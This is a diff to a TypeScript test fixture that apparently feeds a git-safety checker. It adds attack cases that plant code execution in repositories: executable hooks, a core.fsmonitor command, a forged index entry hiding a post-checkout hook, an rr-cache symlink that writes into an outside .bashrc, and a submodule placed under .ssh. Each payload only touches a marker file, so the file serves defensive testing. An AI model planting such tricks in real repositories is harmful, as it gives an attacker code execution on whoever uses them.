@@ -28,6 +28,23 @@ open(".git/index","wb").write(b+hashlib.sha1(b).digest())
 P
 f=$(git rev-parse HEAD:f); blob=$(printf '#!/bin/sh\\ntouch "$MARK"\\n' | git hash-object -w --stdin); python3 index.py 100644:f:$f`;
 
+const HOOK = `mkdir .git/hooks; printf '#!/bin/sh\\ntouch "$MARK"\\n' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit`;
+
+/** An index of the fourth version. Git goes by the length of its first name, which ends in the middle of the second entry. */
+const HIDDEN_ENTRY = `cat > index.py <<'P'
+import struct,hashlib,sys
+fh,bh=sys.argv[1:3]
+def head(mode,hash,flags,fill):
+    return fill*24+struct.pack(">I",mode)+fill*12+bytes.fromhex(hash)+struct.pack(">H",flags)
+second=head(0x81A4,fh,0x0FFF,b"\\0")+b"\\1zz"
+said=1+len(second)
+hidden=head(0x010181ED,bh,0x0FFF,b"\\1")+bytes([said])+b".git/hooks/post-checkout\\0"
+b=b"DIRC"+struct.pack(">II",4,2)+head(0x81A4,fh,said,b"\\0")+b"\\0a\\0"+second+hidden
+open(".git/index","wb").write(b+hashlib.sha1(b).digest())
+P
+while :; do n=$((n+1)); blob=$(printf '#!/bin/sh\\ntouch "$MARK"\\n# %s\\n' $n | git hash-object -w --stdin); echo $blob | fold -w2 | grep -qx 00 || break; done
+python3 index.py $(git rev-parse HEAD:f) $blob`;
+
 export const PLANTED_GIT: readonly PlantedGit[] = [
   {
     title: "[attack 03] a merge strategy that climbs to a file, while a conflict is resolved",
@@ -133,6 +150,42 @@ export const PLANTED_GIT: readonly PlantedGit[] = [
     setup: NEW,
     command: `mkdir -p sub; git init -q --bare data; git -C data config core.bare false; git -C data config core.worktree ../sub; git -C data config core.fsmonitor 'touch "$MARK"; false'; echo 'gitdir: ../data' > sub/.git`,
     after: "cd sub && git status",
+  },
+  {
+    title: "[attack 03] a hook in a repository that has a folder whose name is not text",
+    setup: `${NEW}; rm -rf .git/hooks`,
+    command: `${HOOK}; mkdir .git/$'\\xff'`,
+    after: "echo 2 > f; git commit -qam x",
+  },
+  {
+    title: "[attack 03] a hook in a repository that cannot be listed",
+    setup: `${NEW}; rm -rf .git/hooks`,
+    command: `${HOOK}; chmod 0311 .git; ls .git >/dev/null 2>&1 || true`,
+    after: "echo 2 > f; git commit -qam x; chmod u+r .git",
+  },
+  {
+    title: "[attack 03] a hook beside a list with very many lines",
+    setup: `${NEW}; rm -rf .git/hooks`,
+    command: `${HOOK}; mkdir .git/sequencer; seq -f 'x %g' 300000 > .git/sequencer/todo`,
+    after: "rm -rf .git/sequencer; echo 2 > f; git commit -qam x",
+  },
+  {
+    title: "[attack 03] an entry of the index that is hidden in the length of another",
+    setup: NEW,
+    command: HIDDEN_ENTRY,
+    after: "git checkout -- .; git checkout -q -b other",
+  },
+  {
+    title: "[attack 03] a link among the conflicts that git remembers",
+    setup: `${NEW}; echo keep > $OUTSIDE/.bashrc`,
+    command: `d=.git/rr-cache/${"1".repeat(40)}; mkdir -p $d; ln -s $OUTSIDE/.bashrc $d/preimage; printf '${"1".repeat(40)}\\tg\\0' > .git/MERGE_RR; printf 'touch "$MARK"\\n<<<<<<< a\\nx\\n=======\\ny\\n>>>>>>> b\\n' > g`,
+    after: "echo 2 > f; git commit -qam x; bash $OUTSIDE/.bashrc",
+  },
+  {
+    title: "[attack 03] a submodule in a folder for secrets",
+    setup: NEW,
+    command: `mkdir -p .ssh/x; cd .ssh/x; git init -q .; echo 1 > a; git add a; git commit -qm a; git config core.fsmonitor 'touch "$MARK"; false'; cd ../..; git add -f .ssh/x`,
+    after: "git status",
   },
 ];
 
